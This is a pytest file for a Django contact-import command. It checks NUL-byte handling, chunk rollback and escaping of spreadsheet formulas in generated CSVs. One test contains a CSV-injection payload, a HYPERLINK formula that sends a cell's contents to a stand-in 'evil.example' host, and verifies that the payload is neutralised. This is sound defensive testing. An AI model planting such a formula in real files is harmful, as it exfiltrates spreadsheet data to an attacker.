"""Issue 9, roads 10 and 11 for the importer: bad cells are one invalid row, and no CSV the
product writes carries a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import pathlib

import pytest
from django.core.management import CommandError, call_command

import subscriptions
from subscriptions.consent.importing import import_run, import_start, pipeline, sql
from subscriptions.consent.ledger import Actor
from subscriptions.csv_safety import csv_cell, csv_writer
from subscriptions.models import ConsentEvent, Contact, Subscription


def run(tmp_path, content: bytes, topic) -> tuple[str, list[list[str]]]:
    source = tmp_path / "contacts.csv"
    source.write_bytes(content)
    report = tmp_path / "report.csv"
    out = io.StringIO()
    try:
        call_command(
            "import_contacts",
            str(source),
            "--topic",
            topic.slug,
            "--source",
            "crm",
            "--no-progress",
            "--report",
            str(report),
            stdout=out,
            stderr=io.StringIO(),
        )
    except CommandError as error:  # invalid rows make the command exit non-zero
        out.write(f"\n{error}")
    with report.open(newline="") as file:
        return out.getvalue(), list(csv.reader(file))


def test_a_nul_byte_in_a_cell_is_one_invalid_row(tmp_path, topic):
    content = (
        b"email,first_name\n"
        b"ann@example.com,Ann\n"
        b"bob@example.com,B\x00b\n"
        b"cy@example.com,Cy\n"
        b"d\x00n@example.com,Dan\n"
    )
    out, report = run(tmp_path, content, topic)
    assert "4 rows: 2 contacts created" in out and "2 subscribed" in out and "2 invalid" in out
    invalid = {row[0]: row[3] for row in report[1:] if row[2] == "invalid"}
    assert invalid == {
        "3": "a NUL byte in column 'first_name'",
        "5": "a NUL byte in column 'email'",
    }
    assert sorted(Contact.objects.values_list("email", flat=True)) == [
        "ann@example.com",
        "cy@example.com",
    ]


def test_a_chunk_that_fails_mid_way_leaves_nothing_half_written(topic, monkeypatch):
    """Chunks of two rows; the second fails after its contacts, subscriptions and ledger rows
    were written: all of that rolls back, the first chunk stays, and the import says so."""
    monkeypatch.setattr(pipeline, "CHUNK_ROWS", 2)
    calls = []

    def fail_second_chunk(cursor, run):
        calls.append(run.pk)
        if len(calls) == 2:
            cursor.execute("SELECT 1 / 0")  # the database refuses, mid-chunk

    monkeypatch.setattr(sql, "chunk_events_written", fail_second_chunk)
    content = b"email\nann@example.com\nbob@example.com\ncy@example.com\ndan@example.com\n"
    run = import_start(
        file=io.BytesIO(content),
        filename="list.csv",
        mode="subscribe",
        topic=topic,
        source="crm",
        actor=Actor(source="import"),
        run_async=False,
    )
    run = import_run(run.pk)
    assert run.status == "failed"
    assert run.committed_through_line == 3 and run.rows == 2
    assert "nothing from line 4 on was written" in run.error
    assert run.counts["subscribed"] == 2
    assert sorted(Contact.objects.values_list("email", flat=True)) == [
        "ann@example.com",
        "bob@example.com",
    ]
    assert Subscription.objects.count() == ConsentEvent.objects.count() == 2
    assert not run.file_chunks.exists()


def test_a_header_with_a_nul_byte_is_refused_cleanly(tmp_path, topic):
    source = tmp_path / "contacts.csv"
    source.write_bytes(b"email,na\x00me\nann@example.com,Ann\n")
    with pytest.raises(CommandError, match="NUL"):
        call_command(
            "import_contacts", str(source), "--topic", topic.slug, "--source", "x", "--no-progress"
        )
    assert not Contact.objects.exists()


def test_the_import_report_never_carries_a_formula(tmp_path, topic):
    attack = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    content = f'email\n"{attack.replace(chr(34), chr(34) * 2)}"\n+1-555@example\n'.encode()
    _out, report = run(tmp_path, content, topic)
    cells = [cell for row in report for cell in row]
    assert f"'{attack}" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+45 1234", "'+45 1234"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("ann@example.com", "ann@example.com"),
        (3, 3),
    ],
)
def test_csv_cell_neutralises_formula_starts(value, written):
    assert csv_cell(value) == written
    buffer = io.StringIO()
    csv_writer(buffer).writerow([value])
    assert next(csv.reader(io.StringIO(buffer.getvalue())))[0] == str(written)


def test_every_csv_the_product_writes_goes_through_the_helper():
    package = pathlib.Path(subscriptions.__file__).parent
    writers = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["csv_safety.py"]
